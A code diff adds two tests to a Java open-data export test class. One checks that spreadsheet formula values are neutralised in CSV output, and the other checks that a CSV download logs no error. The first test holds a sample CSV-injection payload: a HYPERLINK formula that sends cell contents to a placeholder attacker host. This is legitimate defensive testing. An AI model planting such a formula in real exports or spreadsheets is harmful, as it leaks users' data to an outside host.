@@ -30,8 +30,17 @@ import org.consensusledger.events.proposal.RoughConsensusDeclared;
 import org.consensusledger.events.proposal.StandAsideRecorded;
 import org.consensusledger.events.proposal.SupportExpressed;
 import org.consensusledger.query.web.QueryApiTest;
+import ch.qos.logback.classic.Level;
+import ch.qos.logback.classic.Logger;
+import ch.qos.logback.classic.spi.ILoggingEvent;
+import ch.qos.logback.core.read.ListAppender;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.slf4j.LoggerFactory;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.context.ApplicationListener;
+import org.springframework.context.ConfigurableApplicationContext;
+import org.springframework.web.context.support.ServletRequestHandledEvent;
 
 import java.io.IOException;
 import java.io.StringReader;
@@ -43,6 +52,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.function.Predicate;
 
 import static org.assertj.core.api.Assertions.assertThat;
@@ -51,9 +61,13 @@ import static org.awaitility.Awaitility.await;
 /**
  * The open-data exports: every CSV loads with a CSV parser, with its columns and rows, recorded texts whole (quotes,
  * commas, line breaks, non-ASCII); the Popolo export validates against the Popolo project's schemas; every export
- * names the signed checkpoint it was made at and holds nothing after it; wrong parameters are problems, not errors.
+ * names the signed checkpoint it was made at and holds nothing after it; wrong parameters are problems, not errors;
+ * a text a spreadsheet would take for a formula is neutralised in the CSV; a download logs no error.
  */
 class OpenDataExportsTest extends QueryApiTest {
+
+    @Autowired
+    private ConfigurableApplicationContext context;
 
     static final Instant AT = Instant.parse("2026-03-04T09:30:00Z");
     /** A recorded text with everything CSV must quote, a line break, and non-ASCII letters. */
@@ -196,6 +210,55 @@ class OpenDataExportsTest extends QueryApiTest {
         assertThat(rowsOf(csv("bodies", "?at=" + size), "body_id", later)).isEmpty();
         assertThat(rowsOf(csv("bodies", "?at=" + size), "body_id", body)).hasSize(1);
         assertThat(get("/api/open-data/popolo.json?at=" + size).body()).doesNotContain(later);
+    }
+
+    @Test
+    void aTextASpreadsheetWouldTakeForAFormulaIsNeutralisedInTheCsvAndExactInThePopoloDocument() {
+        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
+        List<String> names = List.of(formula, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "'quoted");
+        for (int i = 0; i < names.size(); i++) {
+            append("Organisation", "od-f" + i + "-" + run, new OrganisationRegistered(
+                    "od-f" + i + "-" + run, names.get(i), StakeholderGroup.ACADEMIA, null));
+        }
+        List<CSVRecord> organisations = awaitCsv("organisations", rows -> rows.stream().anyMatch(
+                row -> row.get("organisation_id").equals("od-f" + (names.size() - 1) + "-" + run)));
+        for (int i = 0; i < names.size(); i++) {
+            assertThat(rowsOf(organisations, "organisation_id", "od-f" + i + "-" + run).get(0).get("name"))
+                    .isEqualTo("'" + names.get(i));
+        }
+        assertThat(rowsOf(organisations, "organisation_id", gov).get(0).get("name"))
+                .isEqualTo("Ministère \"Numérique\", Genève"); // nothing to neutralise: as recorded
+        JsonNode popolo = json(get("/api/open-data/popolo.json"));
+        assertThat(find(popolo.path("organizations"), "id", "od-f0-" + run).path("name").asText()).isEqualTo(formula);
+    }
+
+    @Test
+    void aCsvDownloadLogsNoError() {
+        awaitCsv("organisations", rows -> !rowsOf(rows, "organisation_id", cso).isEmpty()); // a checkpoint is signed
+        ListAppender<ILoggingEvent> logged = new ListAppender<>();
+        logged.start();
+        Logger root = (Logger) LoggerFactory.getLogger(Logger.ROOT_LOGGER_NAME);
+        List<ServletRequestHandledEvent> handled = new CopyOnWriteArrayList<>();
+        ApplicationListener<ServletRequestHandledEvent> listener = handled::add;
+        root.addAppender(logged);
+        context.addApplicationListener(listener);
+        try {
+            HttpResponse<String> response = get("/api/open-data/bodies.csv");
+            assertThat(response.statusCode()).isEqualTo(200);
+            assertThat(parse(response.body())).isNotEmpty();
+            // Spring says a request was handled once all of it is done, its exception handling included.
+            await().atMost(Duration.ofSeconds(30)).until(() -> handled.stream().anyMatch(
+                    event -> event.getRequestUrl().endsWith("/bodies.csv")));
+            ServletRequestHandledEvent event = handled.stream().filter(
+                    e -> e.getRequestUrl().endsWith("/bodies.csv")).findFirst().orElseThrow();
+            assertThat(event.getFailureCause()).isNull();
+            synchronized (logged) {
+                assertThat(logged.list).filteredOn(e -> e.getLevel().isGreaterOrEqual(Level.ERROR)).isEmpty();
+            }
+        } finally {
+            context.removeApplicationListener(listener);
+            root.detachAppender(logged);
+        }
     }
 
     @Test
